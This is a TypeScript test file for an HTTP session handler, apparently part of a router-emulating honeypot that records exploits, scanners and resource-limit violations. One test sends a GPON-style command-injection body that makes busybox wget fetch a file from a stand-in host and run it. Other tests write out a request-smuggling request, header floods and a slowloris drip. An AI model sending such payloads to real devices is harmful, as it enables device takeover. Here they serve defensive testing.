// Tests of the HTTP session over an in-memory Duplex pair: keep-alive, pipelining, HTTP/1.0, exact
// response bytes, the events of each request, and every limit (body, header flood, slowloris, ...).
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { EventPayloads, SessionEventType } from '../../core/events.ts';
import type { ExploitMatch, HttpRequest, HttpResponder } from '../../core/http.ts';
import { collect, createDuplexPair } from '../../testing/duplex-pair.ts';
import { createRegexInspector, createTestResponder, gponStandIn } from '../../testing/http-stand-ins.ts';
import { RecordingEmitter } from '../../testing/recording-emitter.ts';
import { defaultHttpLimits, handleHttp, type HttpLimits } from './session.ts';

function start(limits: Partial<HttpLimits> = {}, responder: HttpResponder = createTestResponder()) {
  const { server, client } = createDuplexPair();
  const events = new RecordingEmitter();
  const followed: [ExploitMatch, HttpRequest][] = [];
  const done = handleHttp(server, {
    events,
    responder,
    inspector: createRegexInspector([gponStandIn]),
    deviceClass: 'router',
    src: { ip: '127.0.0.1', port: 40000 },
    dst: { ip: '127.0.0.1', port: 80 },
    tls: false,
    clock: { now: () => Date.now() },
    limits: { ...defaultHttpLimits, ...limits },
    onExploit: (match, request) => followed.push([match, request]),
  });
  const out = collect(client);
  const ended = new Promise<void>((resolve) => client.once('end', resolve));
  const of = <K extends SessionEventType>(type: K): EventPayloads[K][] => events.events.filter((e) => e.type === type).map((e) => e.data as EventPayloads[K]);
  return { client, out, events, done, ended, followed, of };
}

const statusLines = (text: string): string[] => text.match(/HTTP\/1\.[01] \d{3}[^\r]*/g) ?? [];

describe('HTTP session', () => {
  it('writes exactly the responder\'s bytes and keeps an HTTP/1.1 connection open', async () => {
    const s = start();
    s.client.write('GET /a HTTP/1.1\r\nHost: x\r\n\r\n');
    await s.out.waitFor('seq 1\n');
    assert.equal(s.out.text(), 'HTTP/1.1 200 OK\r\nServer: test-device\r\nContent-Type: text/plain\r\nContent-Length: 6\r\n\r\nseq 1\n');
    s.client.write('GET /b HTTP/1.1\r\nHost: x\r\n\r\n');
    await s.out.waitFor('seq 2\n');
    s.client.end();
    await s.done;
    assert.deepEqual(s.of('http.request').map((r) => [r.seq, r.path]), [[1, '/a'], [2, '/b']]);
    assert.equal(s.of('session.close')[0]?.reason, 'client-closed');
    assert.equal(s.events.events[0]?.type, 'session.connect');
  });

  it('answers pipelined requests in order, also when one answer is slow and the client half-closes', async () => {
    const s = start();
    s.client.end('GET /slow HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\nPOST /c HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc');
    await s.ended;
    await s.done;
    assert.deepEqual(s.out.text().match(/seq \d/g), ['seq 1', 'seq 2', 'seq 3']);
    assert.equal(s.of('http.request')[2]?.body, 'abc');
  });

  it('closes after an HTTP/1.0 answer unless both sides said keep-alive', async () => {
    const plain = start();
    plain.client.write('GET / HTTP/1.0\r\n\r\n');
    await plain.ended;
    await plain.done;
    assert.deepEqual(statusLines(plain.out.text()), ['HTTP/1.0 200 OK']);
    assert.equal(plain.of('session.close')[0]?.reason, 'exit');

    const kept = start();
    kept.client.write('GET /1 HTTP/1.0\r\nConnection: keep-alive\r\n\r\n');
    await kept.out.waitFor('seq 1');
    kept.client.write('GET /2 HTTP/1.0\r\nConnection: keep-alive\r\n\r\n');
    await kept.out.waitFor('seq 2');
    kept.client.end();
    await kept.done;
  });

  it('closes after a response framed by the connection end, and after Connection: close', async () => {
    for (const path of ['/nolength', '/close']) {
      const s = start();
      s.client.write(`GET ${path} HTTP/1.1\r\n\r\nGET /never HTTP/1.1\r\n\r\n`);
      await s.ended;
      await s.done;
      assert.equal(statusLines(s.out.text()).length, 1, path);
    }
  });

  it('records each request, each exploit (affected for the persona class) and scanner, and calls the follow-through', async () => {
    const s = start();
    const body = 'dest_host=`busybox wget http://x/m;sh m`&x=1';
    s.client.end(`POST /GponForm/diag_Form?images/ HTTP/1.1\r\nUser-Agent: zgrab/0.x\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
    await s.done;
    const [request] = s.of('http.request');
    assert.deepEqual([request?.method, request?.path, request?.query, request?.bodyBytes, request?.error, request?.raw], ['POST', '/GponForm/diag_Form', 'images/', body.length, null, null]);
    const [exploit] = s.of('exploit.detected');
    assert.deepEqual([exploit?.signature, exploit?.affected, exploit?.payload, exploit?.seq], ['gpon-standin', true, 'busybox wget http://x/m;sh m', 1]);
    assert.deepEqual(s.of('http.scanner').map((t) => t.scanner), ['zgrab']);
    assert.equal(s.followed.length, 1);
    assert.equal(s.followed[0]?.[1].path, '/GponForm/diag_Form');
  });

  it('records a smuggling attempt as malformed, answers 400 and closes without reading the smuggled request', async () => {
    const s = start();
    s.client.write('POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n');
    await s.ended;
    await s.done;
    const requests = s.of('http.request');
    assert.equal(requests.length, 1);
    assert.match(requests[0]?.error ?? '', /smuggling/);
    assert.match(requests[0]?.raw ?? '', /^POST \/ HTTP\/1.1\r\n/);
    assert.deepEqual(statusLines(s.out.text()), ['HTTP/1.1 400 Bad Request']);
    assert.equal(s.of('session.close')[0]?.reason, 'exit');
  });

  it('stops reading a 100 MB body at the limit and closes cleanly, buffering nothing past it', async () => {
    const max = 1024 * 1024;
    const s = start({ maxBodyReadBytes: max });
    s.client.write(`POST /upload HTTP/1.1\r\nContent-Length: ${100 * 1024 * 1024}\r\n\r\n`);
    const chunk = Buffer.alloc(64 * 1024, 0x41);
    let closed = false;
    void s.done.then(() => (closed = true));
    for (let sent = 0; sent < 100 * 1024 * 1024 && !closed; sent += chunk.length) {
      s.client.write(chunk);
      if (sent % (16 * chunk.length) === 0) await new Promise((resolve) => setImmediate(resolve));
    }
    await s.done;
    const [limit] = s.of('session.limit');
    assert.deepEqual([limit?.limit, limit?.max], ['body-bytes', max]);
    const [close] = s.of('session.close');
    assert.equal(close?.reason, 'limit');
    assert.ok((close?.bytesIn ?? Infinity) < max + 4 * chunk.length, `read ${close?.bytesIn}`);
    const [request] = s.of('http.request');
    assert.deepEqual([request?.bodyBytes, request?.truncated, request?.body.length], [100 * 1024 * 1024, true, defaultHttpLimits.maxBodyBytes]);
    assert.equal(s.out.text(), '');
  });

  it('ends header floods: too many header lines, and a head past the byte limit', async () => {
    const many = start({ maxHeaderCount: 50 });
    many.client.write(`GET / HTTP/1.1\r\n${'X-Flood: 1\r\n'.repeat(1000)}\r\n`);
    await many.done;
    assert.equal(many.of('session.limit')[0]?.limit, 'header-count');
    assert.deepEqual(statusLines(many.out.text()), ['HTTP/1.1 400 Bad Request']);

    const big = start({ maxHeaderBytes: 4096 });
    big.client.write(`GET / HTTP/1.1\r\nCookie: ${'c'.repeat(100_000)}\r\n\r\n`);
    await big.done;
    assert.equal(big.of('session.limit')[0]?.limit, 'header-bytes');
    assert.equal(big.of('http.request')[0]?.raw?.length, defaultHttpLimits.maxRawBytes);
  });

  it('ends a slowloris client whose head does not arrive within the header timeout', async () => {
    const s = start({ headerTimeoutMs: 150, idleTimeoutMs: 5000 });
    s.client.write('GET / HTTP/1.1\r\nHost: x\r\n');
    const drip = setInterval(() => s.client.write('X-a: b\r\n'), 20);
    const began = Date.now();
    await s.done;
    clearInterval(drip);
    assert.ok(Date.now() - began < 1000);
    assert.equal(s.of('session.limit')[0]?.limit, 'header-timeout');
    assert.match(s.of('http.request')[0]?.error ?? '', /not complete within 150 ms/);
    assert.equal(s.of('session.close')[0]?.reason, 'limit');
  });

  it('limits requests per connection, input bytes, idle time and session length', async () => {
    const requests = start({ maxRequests: 2 });
    requests.client.write('GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\nGET /3 HTTP/1.1\r\n\r\n');
    await requests.done;
    assert.equal(statusLines(requests.out.text()).length, 2);
    assert.equal(requests.of('session.limit')[0]?.limit, 'requests');

    const input = start({ maxInputBytes: 2048 });
    input.client.write(`POST / HTTP/1.1\r\nContent-Length: 5000\r\n\r\n${'a'.repeat(5000)}`);
    await input.done;
    assert.equal(input.of('session.limit')[0]?.limit, 'input-bytes');

    const idle = start({ idleTimeoutMs: 100 });
    await idle.done;
    assert.equal(idle.of('session.close')[0]?.reason, 'idle-timeout');

    const long = start({ maxSessionMs: 150, idleTimeoutMs: 5000 });
    const ask = setInterval(() => long.client.write('GET / HTTP/1.1\r\n\r\n'), 20);
    await long.done;
    clearInterval(ask);
    assert.equal(long.of('session.close')[0]?.reason, 'max-duration');
  });

  it('closes with an error when the responder fails, and never throws', async () => {
    const s = start({}, { serverName: null, respond: () => Promise.reject(new Error('broken page')) });
    s.client.write('GET / HTTP/1.1\r\n\r\n');
    await s.done;
    assert.equal(s.of('session.close')[0]?.reason, 'error');
  });
});
